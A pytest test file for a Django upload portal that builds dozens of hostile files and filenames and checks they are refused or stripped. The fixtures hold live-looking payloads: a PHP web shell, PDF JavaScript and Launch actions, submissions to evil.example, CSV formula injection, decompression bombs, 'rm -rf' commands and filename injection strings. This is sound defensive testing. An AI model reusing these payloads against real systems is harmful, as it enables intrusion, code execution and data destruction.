"""Hostile files, made here, posted to a page: not one is accepted. A picture may be taken after it was drawn anew, and
then nothing of the payload is left."""

from __future__ import annotations

import io
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter

from audit.models import Event
from portals.enums import FileRefusal, Team
from portals.files import stored as files
from portals.models import StoredFile
from tests.factories import documents, people
from tests.factories.documents import packed_pdf, pdf, picture, stream

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.factories.uploading")]
PAYLOAD = b"<script>alert('payload')</script><?php system($_GET['c']); ?>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\('payload'\\)) >>"
CLEANED = "cleaned"


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    ends: str  # the reason of the refusal, or CLEANED
    name: str = "document.pdf"
    form: str = "one"


def zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names or ("Main.class",):
            archive.writestr(name, PAYLOAD * 10)
    return out.getvalue()


def bomb_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 50_000_000)
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("x"), io.BytesIO())
    return out.getvalue()


def frames(form: str) -> bytes:
    out = io.BytesIO()
    first, second = (Image.new("RGB", (40, 30), color) for color in ("white", "red"))
    first.save(out, form, save_all=True, append_images=[second])
    return out.getvalue()


def with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x8825] = PAYLOAD.decode(), PAYLOAD.decode(), {1: "N", 2: (42.0, 39.0, 9.0)}
    return picture("JPEG", exif=exif)


def with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", PAYLOAD.decode())
    info.add_itxt("XML:com.adobe.xmp", PAYLOAD.decode())
    return picture(pnginfo=info)


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0x55]) + data[at + 1 :]


def encrypted(algorithm: str) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.append(PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm=algorithm)
    writer.write(out)
    return out.getvalue()


def attached() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.append(PdfReader(io.BytesIO(pdf())))
    writer.add_attachment("x.exe", b"MZ\x90")
    writer.write(out)
    return out.getvalue()


def circle() -> bytes:
    data = pdf(trailer=b"/Prev 0000000000")
    start = data.rfind(b"xref\n0 ")
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % start)


def pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    return pdf(
        {2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)}
        | dict.fromkeys(range(10, 10 + count), documents.PAGE)
    )


def unlisted_object() -> bytes:
    """No table leads to it; a reader that repairs the file finds it."""
    data = pdf()
    return data.replace(
        b"xref\n0 ", b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>\nendobj\nxref\n0 " % SCRIPT
    )


def hidden_stream(word: bytes) -> bytes:
    """An object stream with a script, in no table."""
    hidden = stream(b"4 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4", packed=True).replace(b"stream\n", word, 1)
    return pdf().replace(b"xref\n0 ", b"9 0 obj\n" + hidden + b"\nendobj\nxref\n0 ")


def earlier_version() -> bytes:
    """An update made the script unreachable, yet it is still in the file."""
    return unlisted_object().replace(b"%%EOF\n", b"%%EOF\n% updated\n") + pdf()[9:]


def annotation(action: bytes) -> bytes:
    return pdf({4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A %s >>" % action}, page=b"/Annots [4 0 R]")


def deep(count: int) -> bytes:
    return pdf({4: b"[" * count + b"]" * count})


def stream_bomb() -> bytes:
    """Object stream: 10 kB that unpack to 100 MB."""
    return packed_pdf({}, pad=100_000_000)


def many_objects() -> bytes:
    return pdf(dict.fromkeys(range(4, 110000), b"null"))


JPEG, PNG = picture("JPEG"), picture()
FILES = {
    # Types that are not taken, under names and headers of those that are
    "svg": Hostile(lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "type", "a.png"),
    "html": Hostile(lambda: b"<!doctype html>" + PAYLOAD, "type"),
    "html with spaces before": Hostile(lambda: b" \n\t" * 300 + PAYLOAD, "type"),
    "xml with entities": Hostile(lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>', "type"),
    "Windows program": Hostile(lambda: b"MZ\x90\0" + b"\0" * 500, "type", "invoice.pdf.exe"),
    "Linux program": Hostile(lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500, "type"),
    "shell script": Hostile(lambda: b"#!/bin/sh\nrm -rf /\n", "type"),
    "PHP": Hostile(lambda: b"<?php system($_GET['c']); ?>", "type", "x.php"),
    "JavaScript": Hostile(lambda: b"alert(document.cookie)", "type", "photo.jpg"),
    "Office file with macros": Hostile(lambda: zipped("[Content_Types].xml", "word/vbaProject.bin"), "type", "a.docm"),
    "old Office file": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "type", "a.doc"),
    "RTF": Hostile(lambda: b"{\\rtf1{\\object\\objdata 0105}}", "type", "a.rtf"),
    "ZIP": Hostile(zipped, "type"),
    "ZIP bomb": Hostile(bomb_zip, "type"),
    "tar.gz": Hostile(tarred, "type"),
    "GIF that is a script": Hostile(lambda: b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)", "type", "a.gif"),
    "GIF before a JAR": Hostile(lambda: picture("GIF", "P") + zipped(), "type", "a.jpg"),
    "WebP": Hostile(lambda: picture("WEBP"), "type", "a.png"),
    "BMP": Hostile(lambda: picture("BMP"), "type", "a.png"),
    "TIFF": Hostile(lambda: picture("TIFF"), "type", "a.png"),
    "PostScript": Hostile(lambda: b"%!PS-Adobe-3.0\n(x) run\n", "type"),
    "HEIC by name": Hostile(lambda: b"\0\0\0\x18ftypheic" + b"\0" * 60, "type", "a.jpg"),
    "nothing": Hostile(lambda: b"", "empty"),
    "ten megabytes and one byte": Hostile(lambda: b"%PDF-1.7\n" + b" " * (10 * 1024 * 1024), "large"),
    # Pictures that are refused
    "PNG of 40,000 by 40,000": Hostile(lambda: documents.bare_png(40_000, 40_000, b"\0" * 1000), "pixels", "a.png"),
    "PNG that unpacks to 80 MB": Hostile(lambda: documents.bare_png(9_000, 9_000, b"\0" * 81_009_000), "pixels"),
    "PNG whose rows never end": Hostile(lambda: documents.bare_png(10, 10, b"\0" * 90_000_000), CLEANED, "a.png"),
    "JPEG that says 65,000 by 65,000": Hostile(
        lambda: JPEG.replace(b"\x08\x00\x30\x00\x40", b"\x08\xfd\xe8\xfd\xe8", 1), "pixels", "a.jpg"
    ),
    "JPEG cut in the middle": Hostile(lambda: picture("JPEG", size=(600, 400))[:3000], "broken", "a.jpg"),
    "JPEG of its header": Hostile(lambda: b"\xff\xd8\xff\xe0", "broken", "a.jpg"),
    "JPEG header before a script": Hostile(lambda: b"\xff\xd8\xff\xe0" + PAYLOAD * 9, "broken", "a.jpg"),
    "PNG cut in the middle": Hostile(lambda: picture(size=(600, 400))[:200], "broken", "a.png"),
    "PNG header before HTML": Hostile(lambda: PNG[:8] + PAYLOAD, "broken", "a.png"),
    "PNG with a wrong check sum": Hostile(lambda: flipped(PNG, len(PNG) - 13), "broken", "a.png"),
    "PNG with a wrong header sum": Hostile(lambda: flipped(PNG, 30), "broken", "a.png"),
    "PNG of no size": Hostile(lambda: documents.bare_png(0, 0, b""), "broken", "a.png"),
    "PNG text that unpacks to 90 MB": Hostile(
        lambda: documents.with_chunk(PNG, b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 90_000_000, 6)), "broken", "a.png"
    ),
    "animated PNG": Hostile(lambda: frames("PNG"), "moving", "a.png"),
    # Pictures that are drawn anew, and nothing else is left of them
    "PNG with HTML behind": Hostile(lambda: PNG + PAYLOAD, CLEANED, "a.html"),
    "PNG with HTML in a comment": Hostile(with_text, CLEANED, "a.png"),
    "PNG with PHP in a part of its own": Hostile(lambda: documents.with_chunk(PNG, b"phPp", PAYLOAD), CLEANED, "a.php"),
    "PNG with a JAR behind": Hostile(lambda: PNG + zipped(), CLEANED, "a.jar"),
    "JPEG with a script in its comment": Hostile(lambda: documents.with_segment(JPEG, 0xFE, PAYLOAD), CLEANED, "a.js"),
    "JPEG with a JAR behind": Hostile(lambda: JPEG + zipped(), CLEANED, "a.jpg"),
    "JPEG with a PDF behind": Hostile(lambda: JPEG + pdf(catalog=b"/OpenAction " + SCRIPT), CLEANED, "a.pdf"),
    "JPEG with place and script in EXIF": Hostile(with_exif, CLEANED, "a.jpg"),
    "JPEG with a payload as color profile": Hostile(
        lambda: documents.with_segment(JPEG, 0xE2, b"ICC_PROFILE\0\x01\x01" + PAYLOAD * 50), CLEANED, "a.jpg"
    ),
    "JPEG with a payload as settings of Photoshop": Hostile(
        lambda: documents.with_segment(JPEG, 0xED, b"Photoshop 3.0\x008BIM" + PAYLOAD), CLEANED, "a.jpg"
    ),
    "JPEG of several pictures": Hostile(lambda: frames("MPO") + PAYLOAD, CLEANED, "a.jpg"),
    # PDFs that do something
    "script on opening": Hostile(lambda: pdf(catalog=b"/OpenAction " + SCRIPT), "active"),
    "script on opening, by reference": Hostile(lambda: pdf({4: SCRIPT}, catalog=b"/OpenAction 4 0 R"), "active"),
    "script in a stream": Hostile(
        lambda: pdf({4: b"<< /S /JavaScript /JS 5 0 R >>", 5: stream(b"app.alert(1)", packed=True)},
                    catalog=b"/OpenAction 4 0 R"), "active"),
    "script on events of the file": Hostile(lambda: pdf(catalog=b"/AA << /WC %s >>" % SCRIPT), "active"),
    "script on events of a page": Hostile(lambda: pdf(page=b"/AA << /O %s >>" % SCRIPT), "active"),
    "script by name": Hostile(lambda: pdf(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), "active"),
    "script of a link": Hostile(lambda: annotation(SCRIPT), "active"),
    "script after a harmless action": Hostile(
        lambda: annotation(b"<< /S /URI /URI (x) /Next %s >>" % SCRIPT), "active"),
    "script of a form's field": Hostile(
        lambda: pdf({4: b"<< /FT /Tx /T (a) /AA << /K %s >> >>" % SCRIPT}, catalog=b"/AcroForm << /Fields [4 0 R] >>"),
        "active"),
    "script under an escaped name": Hostile(
        lambda: pdf(catalog=b"/OpenAction << /S /#4aava#53cript /J#53 (x) >>"), "active"),
    "script under a name escaped whole": Hostile(
        lambda: pdf(catalog=b"/OpenAction << /S /%s >>" % b"".join(b"#%02X" % c for c in b"JavaScript")), "active"),
    "script in an object stream": Hostile(lambda: packed_pdf({4: SCRIPT}, b"/OpenAction 4 0 R"), "active"),
    "escaped script in an object stream": Hostile(
        lambda: packed_pdf({4: b"<< /S /Java#53cript /JS (x) >>"}, b"/OpenAction 4 0 R"), "active"),
    "object stream behind padding and comments": Hostile(
        lambda: packed_pdf({4: SCRIPT}, stream_head=b"%obj endstream stream\n" + b" " * 9000), "active"),
    "object stream that only a careless reader finds": Hostile(
        lambda: hidden_stream(b"stream\r"), "active"),
    "object stream that no table names": Hostile(lambda: hidden_stream(b"stream\n"), "active"),
    "link to a script": Hostile(lambda: annotation(b"<< /S /URI /URI (JaVascript:alert\\(1\\)) >>"), "active"),
    "link to a file": Hostile(lambda: annotation(b"<< /S /URI /URI <66696c653a2f2f2f6574632f> >>"), "active"),
    "object stream by an unusual filter": Hostile(
        lambda: packed_pdf({}, stream_head=b"/DecodeParms << /Predictor 12 /Columns 4 >>"), "complex"),
    "script to which no table leads": Hostile(unlisted_object, "active"),
    "script of an earlier version": Hostile(earlier_version, "active"),
    "starts a program": Hostile(lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "sends a form": Hostile(lambda: annotation(b"<< /S /SubmitForm /F (https://evil.example) >>"), "active"),
    "fetches data": Hostile(lambda: annotation(b"<< /S /ImportData /F (x.fdf) >>"), "active"),
    "opens another file": Hostile(lambda: annotation(b"<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>"), "active"),
    "form with its own program (XFA)": Hostile(
        lambda: pdf({4: stream(b"<xdp/>")}, catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"), "active"),
    "attached file": Hostile(attached, "active"),
    "attached file of an annotation": Hostile(
        lambda: pdf({4: b"<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 5 0 R >> >> >>", 5: stream(b"MZ")},
                    page=b"/Annots [4 0 R]"), "active"),
    "film": Hostile(
        lambda: pdf({4: b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"}, page=b"/Annots [4 0 R]"),
        "active"),
    "content from another file": Hostile(
        lambda: pdf({4: b"<< /Length 0 /F (//evil.example/a) >>\nstream\n\nendstream"}, page=b"/Contents 4 0 R"),
        "active"),
    "portfolio": Hostile(lambda: pdf(catalog=b"/Collection << /View /T >>"), "active"),
    # PDFs that are locked, broken, or more than a PDF
    "locked by RC4": Hostile(lambda: encrypted("RC4-128"), "encrypted"),
    "locked by AES": Hostile(lambda: encrypted("AES-256"), "encrypted"),
    "tables in a circle": Hostile(circle, "broken"),
    "table beyond the end": Hostile(lambda: pdf().replace(b"startxref\n", b"startxref\n9"), "broken"),
    "pages in a circle": Hostile(lambda: pdf({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "broken"),
    "no pages": Hostile(lambda: pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "broken"),
    "1,200 pages": Hostile(lambda: pages(1200), "pages"),
    "one page a million times": Hostile(
        lambda: pdf({2: b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"3 0 R " * 90_000)}), "pages"),
    "brackets 100,000 deep": Hostile(lambda: deep(100_000), "broken"),
    "stream that unpacks to 100 MB": Hostile(stream_bomb, "complex"),
    "110,000 objects": Hostile(many_objects, "complex"),
    "no end": Hostile(lambda: pdf().replace(b"%%EOF", b""), "broken"),
    "cut in the middle": Hostile(lambda: pdf()[:200], "broken"),
    "header alone": Hostile(lambda: b"%PDF-1.7\n%%EOF\n", "broken"),
    "header after HTML": Hostile(lambda: PAYLOAD + pdf(), "type"),
    "header after 900 bytes": Hostile(lambda: b" " * 900 + pdf(), "type"),
    "HTML inside": Hostile(lambda: pdf({4: stream(PAYLOAD)}), "mixed"),
    "HTML behind": Hostile(lambda: pdf() + PAYLOAD, "mixed"),
    "words behind": Hostile(lambda: pdf() + b"alert(1)", "mixed"),
    "ZIP inside": Hostile(lambda: pdf({4: stream(zipped())}), "mixed"),
    "ZIP behind": Hostile(lambda: pdf() + zipped(), "mixed"),
    "another PDF inside": Hostile(lambda: pdf({4: stream(pdf())}), "mixed"),
    # Tables, where a page takes them
    "HTML as table": Hostile(lambda: b"name,note\na," + PAYLOAD, "mixed", "a.csv", "table"),
    "program as table": Hostile(lambda: b"MZ\x90\0" * 20, "type", "a.csv", "table"),
    "formula in a table": Hostile(lambda: b"name,note\na,=cmd|'/c calc'!A0\n", "formula", "a.csv", "table"),
    "formula behind a sign": Hostile(lambda: b"name,note\na,-2+3+cmd|' /C calc'!A0\n", "formula", "a.csv", "table"),
    "UTF-16 as table": Hostile(lambda: "name,ñ\n".encode("utf-16-le")[:-1] + b"\xff", "type", "a.csv", "table"),
    "letters that turn the order": Hostile(lambda: "name,\u202egpj.exe\n".encode(), "text", "a.csv", "table"),
    "Latin-1 as table": Hostile(lambda: "name,ñ\n".encode("latin-1"), "text", "a.csv", "table"),
}  # fmt: skip


def test_there_are_more_than_sixty() -> None:
    assert len(FILES) >= 60


@pytest.fixture
def browser() -> Client:
    client = Client()
    people.sign_in(client, people.staff_user(Team.HELP_DESK))
    return client


@pytest.mark.parametrize("which", FILES)
def test_a_hostile_file_is_not_accepted(which: str, browser: Client) -> None:
    hostile = FILES[which]
    data = hostile.make()
    sent = SimpleUploadedFile(hostile.name, data, content_type="application/pdf")
    answer = browser.post(f"/uploading/{hostile.form}/", {"document": sent})
    if hostile.ends == CLEANED:
        assert answer.status_code == 204, answer.content
        kept = files.read(StoredFile.objects.get())
        assert kept != data
        for part in (
            b"script",
            b"<?php",
            b"PK\x03\x04",
            b"%PDF",
            b"Exif",
            b"ICC_PROFILE",
            b"iCCP",
            b"tEXt",
            b"payload",
        ):
            assert part not in kept
        with Image.open(io.BytesIO(kept), formats=["PNG", "JPEG"]) as image:
            image.load()
            assert getattr(image, "n_frames", 1) == 1
        return
    assert answer.status_code == 200
    assert not StoredFile.objects.exists()
    refused = Event.objects.get(action="uploads.refuse")
    assert refused.detail["reason"] == hostile.ends
    assert FileRefusal(hostile.ends)  # which has words
    assert "ds-c-inline-error" in answer.content.decode()
    assert hostile.name not in str(refused.detail)


NAMES = [
    "../../etc/x.php",
    "C:\\Users\\me\\scan.exe",
    "license.pdf.exe",
    "a\0b.pdf",
    "invoice\u202efdp.exe",
    "\u200b\u2066.pdf",
    "x" * 900 + ".pdf",
    '"><img src=x onerror=alert(1)>.pdf',
    "line\r\nSet-Cookie: a=b.pdf",
    "CON.pdf",
    ".htaccess",
    "....pdf",
    "; rm -rf $HOME `id`.pdf",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_hostile_name_is_kept_harmless(name: str, browser: Client) -> None:
    """Past the browser's own cleaning: the name comes as a raw header, as whoever attacks sends it."""
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\r\n", "%0D%0A")
    head = f'Content-Disposition: form-data; name="document"; filename="{quoted}"\r\nContent-Type: application/pdf'
    body = b"--edge\r\n" + head.encode() + b"\r\n\r\n" + pdf() + b"\r\n--edge--\r\n"
    answer = browser.generic("POST", "/uploading/one/", body, content_type="multipart/form-data; boundary=edge")
    assert answer.status_code == 204
    row = StoredFile.objects.get()
    assert len(row.name) <= 100
    assert row.name.endswith(".pdf")
    assert row.name.count(".") == 1
    assert row.name.isprintable()
    assert not set(row.name) & set('/\\"<>$`;')
    assert browser.get(f"/uploaded/{row.uuid}/")["Content-Disposition"].startswith("attachment; filename")
